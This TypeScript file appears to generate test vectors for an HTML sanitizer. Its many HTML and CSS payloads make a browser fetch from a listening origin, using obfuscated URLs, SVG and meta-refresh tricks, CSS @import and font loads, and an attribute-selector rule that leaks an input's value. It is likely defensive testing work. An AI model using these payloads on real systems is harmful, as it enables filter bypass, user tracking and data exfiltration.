import { leak, product, vectors, type Vector } from "./vector.ts";

/** What a browser fetches by itself when it shows HTML. `origin` listens, for requests and for mere connections. */
export function loadVectors(origin: string): readonly Vector[] {
  const bare = origin.replace(/^http:/, "");
  const host = bare.slice(2);
  const at = (id: string) => leak(origin, id);

  const ADDRESSES: readonly ((id: string) => string)[] = [
    at,
    (id) => leak(bare, id),
    (id) => leak(origin.replace("http", "HtTp"), id),
    (id) => `\\\\${host}/leak/${id}`,
    (id) => `/\\${host}/leak/${id}`,
    (id) => `http:\\\\${host}/leak/${id}`,
    (id) => ` \n${at(id)} `,
    (id) => at(id).replace("http", "ht\ntp"),
    (id) => at(id).replace("://", ":&#47;&#x2f;"),
    (id) => at(id).replace("http", "&#104;ttp"),
  ];

  const TAGS: readonly ((address: string) => string)[] = [
    (address) => `<img src="${address}">`,
    (address) => `<image src="${address}">`,
    (address) => `<table background="${address}"><tr><td>x</table>`,
    (address) => `<p style="background-image:url('${address}')">x</p>`,
    (address) => `<iframe src="${address}"></iframe>`,
    (address) => `<svg><image href="${address}" width=9 height=9 /></svg>`,
    (address) => `<link rel=stylesheet href="${address}">`,
    (address) => `<video poster="${address}"></video>`,
    (address) => `<input type=image src="${address}">`,
  ];

  const more = vectors("load", "load", [
    (id) => `<img srcset="${at(id)} 1x">`,
    (id) => `<img srcset="${at(id)} 100w, ${at(id)}-b 200w" sizes=100vw>`,
    (id) => `<img srcset=",${at(id)}">`,
    (id) => `<img src=x srcset="${at(id)}">`,
    (id) => `<img src="cid:x" srcset="${at(id)} 2x, ${at(id)} 1x">`,
    (id) => `<picture><source srcset="${at(id)}"><img src="cid:x"></picture>`,
    (id) => `<picture><source media="all" srcset="${at(id)}"><img></picture>`,
    (id) => `<img src="${at(id)}" loading=eager width=1 height=1>`,
    (id) => `<img src=x lowsrc="${at(id)}" src="${at(id)}">`,
    (id) => `<img crossorigin src='${at(id)}'>`,
    (id) => `<img\nsrc\n=\n${at(id)}\n>`,
    (id) => `<img/src="${at(id)}"/>`,
    (id) => `<IMG SRC="${at(id)}">`,
    (id) => `<base href="${origin}/"><img src="leak/${id}">`,
    (id) => `<base href="${origin}/leak/"><img src="${id}">`,
    (id) => `<body background="${at(id)}">x`,
    (id) => `<table><tr background="${at(id)}" style="background:url(${at(id)})"><td>x</table>`,
    (id) => `<table><tr><td background="${at(id)}">x</table>`,
    (id) => `<table><thead background="${at(id)}"><tr><th background="${at(id)}">x</table>`,
    (id) => `<iframe srcdoc="<img src='${at(id)}'>"></iframe>`,
    (id) => `<iframe src="data:text/html,<img src='${at(id)}'>"></iframe>`,
    (id) => `<frameset><frame src="${at(id)}"></frameset>`,
    (id) => `<embed src="${at(id)}">`,
    (id) => `<object data="${at(id)}"></object>`,
    (id) => `<object data="x"><img src="${at(id)}"></object>`,
    (id) => `<object><param name=src value="${at(id)}"><embed src="${at(id)}"></object>`,
    (id) => `<applet codebase="${origin}" code="x"><img src="${at(id)}"></applet>`,
    (id) => `<audio src="${at(id)}" autoplay preload=auto></audio>`,
    (id) => `<audio preload=auto><source src="${at(id)}"></audio>`,
    (id) => `<video src="${at(id)}" preload=auto></video>`,
    (id) => `<video preload=auto><source src="${at(id)}"></video>`,
    (id) =>
      `<video src="data:video/mp4;base64,AAAA"><track default src="${at(id)}" kind=subtitles></video><video poster="${at(id)}"></video>`,
    (id) => `<script src="${at(id)}"></script>`,
    (id) => `<script type=module src="${at(id)}"></script>`,
    (id) => `<script type=importmap>{"imports":{"x":"${at(id)}"}}</script><img src="${at(id)}">`,
    (id) =>
      `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${at(id)}"]}]}</script><img src="${at(id)}">`,
    (id) => `<svg><script href="${at(id)}"></script></svg>`,
    (id) => `<svg><script xlink:href="${at(id)}"></script></svg>`,
    (id) => `<svg><image xlink:href="${at(id)}" width=9 height=9 /></svg>`,
    (id) =>
      `<svg><feImage href="${at(id)}"/><filter id=f${id}><feImage href="${at(id)}"/></filter><rect width=9 height=9 filter="url(#f${id})"/></svg>`,
    (id) => `<svg><use href="${at(id)}#x"/><image href="${at(id)}"/></svg>`,
    (id) => `<svg><pattern id=p${id} href="${at(id)}"/><image href="${at(id)}"/></svg>`,
    (id) => `<svg><style>@import '${at(id)}';</style></svg>`,
    (id) => `<svg><style>rect{fill:url('${at(id)}#x')}</style><rect width=9 height=9 /><image href="${at(id)}"/></svg>`,
    (id) =>
      `<svg><rect width=9 height=9 fill="url('${at(id)}#x')" mask="url('${at(id)}#m')" filter="url('${at(id)}#f')"/><image href="${at(id)}"/></svg>`,
    (id) => `<svg><foreignObject width=9 height=9><img src="${at(id)}"></foreignObject></svg>`,
    (id) => `<svg><animate attributeName=x /><image><set attributeName=href to="${at(id)}"/></image></svg>`,
    (id) => `<svg><cursor href="${at(id)}"/><image href="${at(id)}"/></svg>`,
    (id) => `<math><mtext><img src="${at(id)}"></mtext></math>`,
    (id) => `<math><mglyph src="${at(id)}"/><mtext><img src="${at(id)}"></mtext></math>`,
    (id) => `<meta http-equiv=refresh content="0;url=${at(id)}">`,
    (id) => `<meta http-equiv=refresh content="0,URL='${at(id)}'">`,
    (id) => `<meta http-equiv=Link content="<${at(id)}>; rel=stylesheet"><img src="${at(id)}">`,
    (id) => `<noscript><img src="${at(id)}"></noscript><img src="${at(id)}">`,
    (id) => `<template shadowrootmode=open><img src="${at(id)}"></template><img src="${at(id)}">`,
    (id) =>
      `<div><template shadowrootmode=open><style>@import "${at(id)}"</style></template></div><img src="${at(id)}">`,
    (id) => `<input type=image src="${at(id)}" alt=x>`,
    (id) => `<bgsound src="${at(id)}"><img src="${at(id)}">`,
    (id) => `<xml src="${at(id)}"></xml><img src="${at(id)}">`,
    (id) => `<html manifest="${at(id)}"><img src="${at(id)}">`,
    (id) => `<!--[if !mso]><!--><img src="${at(id)}"><!--<![endif]-->`,
    (id) => `<![if !IE]><img src="${at(id)}"><![endif]>`,
    (id) => `<v:background><v:fill src="${at(id)}"/></v:background><img src="${at(id)}">`,
    (id) => `<div dynsrc="${at(id)}" style="background:url(${at(id)})">x</div>`,
    (id) => `<ul><li style="list-style:url(${at(id)})">x</ul>`,
    (id) => `<ul style="list-style-image:url(${at(id)})"><li>x</ul>`,
    (id) => `<menuitem icon="${at(id)}">x</menuitem><img src="${at(id)}">`,
  ]);

  const LINKS =
    "stylesheet icon|shortcut icon|apple-touch-icon|preload|prefetch|preconnect|dns-prefetch|modulepreload|prerender|manifest|alternate stylesheet|import|next|search|mask-icon"
      .replace("stylesheet icon", "stylesheet|icon")
      .split("|");
  const links = vectors(
    "link",
    "load",
    product(LINKS, [" as=image", " as=style media=all", ' type="text/css"']).map(
      ([rel, rest]) =>
        (id: string) =>
          `<link rel="${rel}"${rest} href="${at(id)}"><img src="${at(id)}">`,
    ),
  );

  const PROPERTIES =
    "background background-image border-image border-image-source list-style list-style-image cursor content mask mask-image -webkit-mask -webkit-mask-image -webkit-mask-box-image filter backdrop-filter clip-path shape-outside offset-path -webkit-box-reflect -webkit-border-image fill stroke marker-start behavior -moz-binding src".split(
      " ",
    );
  const VALUES: readonly ((address: string) => string)[] = [
    (address) => `url(${address})`,
    (address) => `image-set('${address}' 1x)`,
  ];
  const styles = vectors(
    "property",
    "load",
    product(PROPERTIES, VALUES).map(
      ([property, value]) =>
        (id: string) =>
          `<p style="display:block;${property}:${value(at(id))}">x<img style="background:${value(at(id))}"></p>`,
    ),
  );

  const FORMS: readonly ((address: string) => string)[] = [
    (address) => `url(${address})`,
    (address) => `url('${address}')`,
    (address) => `URL("${address}")`,
    (address) => `url( '${address}' )`,
    (address) => `url(\n${address}\n)`,
    (address) => `u\\72l(${address})`,
    (address) => `\\75\\72\\6c(${address})`,
    (address) => `\\000075rl(${address})`,
    (address) => `u\\rl(${address})`,
    (address) => `url(${address.replace("http", "\\68ttp")})`,
    (address) => `url('${address.replace("http", "ht\\\ntp")}')`,
    (address) => `/**/url(${address})`,
    (address) => `red/**/url(${address})`,
    (address) => `none,url(${address})`,
    (address) => `url(data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=),url(${address})`,
    (address) => `url(cid:x),url(${address})`,
    (address) => `linear-gradient(red,red),url(${address})`,
    (address) => `image-set(url(${address}) 1x)`,
    (address) => `-webkit-image-set(url(${address}) 1x)`,
    (address) => `image-set("${address}" 1x, "x" 2x)`,
    (address) => `-webkit-cross-fade(url(${address}),url(${address}),50%)`,
    (address) => `cross-fade(url(${address}),url(${address}))`,
    (address) => `image(${address})`,
    (address) => `src("${address}")`,
    (address) => `var(--x,url(${address}))`,
    (address) => `url(${address}`,
    (address) => `url("${address}`,
    (address) => `url(${address})!important`,
    (address) => `url(${address}) no-repeat center/cover`,
    (address) => `red url(${address}) fixed`,
  ];
  const inline = vectors(
    "inline",
    "load",
    FORMS.map(
      (form) => (id: string) =>
        `<div style="width:9px;height:9px;background:${form(at(id)).replaceAll('"', "&quot;")}">x</div>`,
    ),
  );
  const sheets = vectors(
    "sheet",
    "load",
    FORMS.map(
      (form) => (id: string) =>
        `<style>.s${id}{width:9px;height:9px;background:${form(at(id))}}</style><div class="s${id}">x</div>`,
    ),
  );

  const rules = vectors("rule", "load", [
    (id) => `<style>@import url(${at(id)});</style>`,
    (id) => `<style>@import '${at(id)}';</style>`,
    (id) => `<style>@import "${at(id)}" screen;</style>`,
    (id) => `<style>@im\\port "${at(id)}";</style>`,
    (id) => `<style>@\\69mport "${at(id)}";</style>`,
    (id) => `<style>/**/@import/**/"${at(id)}";</style>`,
    (id) => `<style>@charset "utf-8";@import "${at(id)}";</style>`,
    (id) => `<style><!-- @import "${at(id)}"; --></style>`,
    (id) => `<style>@import "${at(id)}"</style>`,
    (id) => `<style>@import "${at(id)}" layer(x);</style>`,
    (id) => `<style>@import "${at(id)}" supports(display:block);</style>`,
    (id) => `<style>@layer a;@import "${at(id)}";</style>`,
    (id) =>
      `<style>@font-face{font-family:f${id};src:url(${at(id)})}.f${id}{font-family:f${id}}</style><p class="f${id}">x</p>`,
    (id) =>
      `<style>@font-face{font-family:f${id};src:local(none),url("${at(id)}")}</style><p style="font-family:f${id}">x</p>`,
    (id) => `<style>@media all{.m${id}{background:url(${at(id)})}}</style><p class="m${id}">x</p>`,
    (id) => `<style>@media all{@media all{.m${id}{background:url(${at(id)})}}}</style><p class="m${id}">x</p>`,
    (id) => `<style>@supports (display:block){.m${id}{background:url(${at(id)})}}</style><p class="m${id}">x</p>`,
    (id) => `<style>@layer x{.m${id}{background:url(${at(id)})}}</style><p class="m${id}">x</p>`,
    (id) =>
      `<style>@container (width>0px){.m${id}{background:url(${at(id)})}}p{background:url(${at(id)})}</style><p class="m${id}">x</p>`,
    (id) => `<style>@scope (.m${id}){:scope{background:url(${at(id)})}}</style><p class="m${id}">x</p>`,
    (id) =>
      `<style>@property --p${id}{syntax:"*";inherits:false;initial-value:url(${at(id)})}.m${id}{background:url(${at(id)})}</style><p class="m${id}">x</p>`,
    (id) =>
      `<style>@keyframes k${id}{from{background:url(${at(id)})}to{background:url(${at(id)})}}.m${id}{animation:k${id} 9s}</style><p class="m${id}">x</p>`,
    (id) => `<style>@namespace url(${at(id)});*{background:url(${at(id)})}</style><p>x</p>`,
    (id) => `<style>@page{background:url(${at(id)})}.m${id}{background:url(${at(id)})}</style><p class="m${id}">x</p>`,
    (id) => `<style>:root{--u${id}:url(${at(id)})}.m${id}{background:var(--u${id})}</style><p class="m${id}">x</p>`,
    (id) => `<style>.m${id}::before{content:url(${at(id)})}</style><p class="m${id}">x</p>`,
    (id) => `<style>.m${id}::after{content:"";display:block;background:url(${at(id)})}</style><p class="m${id}">x</p>`,
    (id) =>
      `<style>.m${id}::marker{content:url(${at(id)})}.m${id}{background:url(${at(id)})}</style><ul><li class="m${id}">x</ul>`,
    (id) => `<style>.m${id}::first-line{background:url(${at(id)})}</style><p class="m${id}">x</p>`,
    (id) => `<style>.m${id}{& b{background:url(${at(id)})}}</style><p class="m${id}"><b>x</b></p>`,
    (id) => `<style>.m${id}:has(b){background:url(${at(id)})}</style><p class="m${id}"><b>x</b></p>`,
    (id) => `<style>p[title^="s"]{background:url(${at(id)})}</style><p title="secret">x</p>`,
    (id) =>
      `<style>input[value^="s"]{background:url(${at(id)})}</style><input value="secret"><p style="background:url(${at(id)})">x`,
    (id) => `<style>body{background:url(${at(id)})}</style><body>x`,
    (id) => `<style>html{background:url(${at(id)})}</style>x`,
    (id) => `<style>*{background:url(${at(id)})}</style><p>x</p>`,
    (id) => `<style>.m${id}{background:red;}}.m${id}{background:url(${at(id)})}</style><p class="m${id}">x</p>`,
    (id) =>
      `<style>}.m${id}{background:url(${at(id)})}</style><p class="m${id}">x</p><p style="background:url(${at(id)})">x`,
    (id) => `<style>.x{a:"\n}.m${id}{background:url(${at(id)})}</style><p class="m${id}">x</p>`,
    (id) =>
      `<style>.x{a:(;}.m${id}{background:url(${at(id)})}</style><p class="m${id}" style="background:url(${at(id)})">x</p>`,
    (id) => `<style>/*x*/.m${id}{background/**/:/**/url(${at(id)})}</style><p class="m${id}">x</p>`,
    (id) => `<style media=all type="text/css">.m${id}{background:url(${at(id)})}</style><p class="m${id}">x</p>`,
    (id) => `<style>.m${id}{background:url(${host});background:url(${at(id)})}</style><p class="m${id}">x</p>`,
    (id) => `<p style="background:url(${at(id)});background:red">x<b style="background:url(${at(id)})">y</b></p>`,
    (id) => `<p style="--a:url(${at(id)});background:var(--a)">x</p>`,
    (id) => `<p style="background:url&#40;${at(id)})">x</p>`,
    (id) => `<p style="background&#58;url(${at(id)})">x</p>`,
    (id) => `<p style="BACKGROUND:URL(${at(id)})">x</p>`,
    (id) => `<p style="back\\ground:url(${at(id)})">x</p>`,
    (id) => `<p style="b\\61 ckground:url(${at(id)})">x</p>`,
    (id) => `<p style="{background:url(${at(id)})}">x<b style="background:url(${at(id)})">y</b></p>`,
    (id) => `<p style="color:red}p{background:url(${at(id)})" class="x"><b style="background:url(${at(id)})">x</b></p>`,
    (id) => `<p style="color:rgb(1,2;background:url(${at(id)}))">x<b style="background:url(${at(id)})">y</b></p>`,
    (id) => `<p style="background:red url/**/(${bare}/x)">x<b style="background:url(${at(id)})">y</b></p>`,
    (id) => `<p style="background:url/**/(//127.1/x),url(${at(id)})">x</p>`,
    (id) => `<font style="background:\nurl(${at(id)})">x</font>`,
  ]);

  const addresses = vectors(
    "form",
    "load",
    product(TAGS, ADDRESSES).map(
      ([tag, address]) =>
        (id: string) =>
          tag(address(id)),
    ),
  ).map((vector) => ({
    ...vector,
    id: vector.id.replace("form", "reach"),
    html: vector.html.replaceAll("/leak/form-", "/leak/reach-"),
  }));

  return [...addresses, ...more, ...links, ...styles, ...inline, ...sheets, ...rules];
}
